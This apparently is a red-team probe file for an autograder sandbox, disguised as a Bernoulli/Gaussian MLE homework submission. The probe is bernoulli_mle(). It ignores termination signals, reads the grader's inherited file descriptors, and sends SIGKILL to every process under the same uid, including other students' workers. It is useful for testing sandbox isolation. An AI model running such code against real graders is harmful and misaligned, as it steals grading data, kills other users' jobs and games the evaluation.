"""ATTACK: inherited file descriptors and signals — read every inherited fd that is a
regular file (looking for the grader's files), ``kill(-1, SIGKILL)`` to take down
everything the sandbox user can signal (other students' workers under the same uid), and
ignore SIGTERM/SIGINT/SIGALRM/SIGXCPU and friends.

honest part: 0 points

proof: bernoulli_mle() raised RuntimeError: RT-RAN
"""
import os
import signal
import stat

for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP,
            signal.SIGUSR1, signal.SIGPIPE):
    try:
        signal.signal(sig, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def _fds():
    out = []
    for fd in range(3, 300):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        kind = "fifo" if stat.S_ISFIFO(st.st_mode) else "file" if stat.S_ISREG(st.st_mode) else "other"
        out.append((fd, kind, st.st_uid))
    return out


def _attack():
    for fd, kind, _ in _fds():
        if kind == "file":
            try:
                os.lseek(fd, 0, 0)
                data = os.read(fd, 4096)
                if data:
                    raise RuntimeError("RT-ESCAPED read an inherited file: " + data[:500].decode("latin-1"))
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything this uid may signal (not itself)
    except OSError:
        pass
    raise RuntimeError("RT-RAN read no inherited file and killed everything it could")


def bernoulli_log_likelihood(theta, x):
    raise NotImplementedError


def bernoulli_mle(x):
    _attack()


def gaussian_log_pdf(x, mu, var):
    raise NotImplementedError


def gaussian_mle(x):
    raise NotImplementedError


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
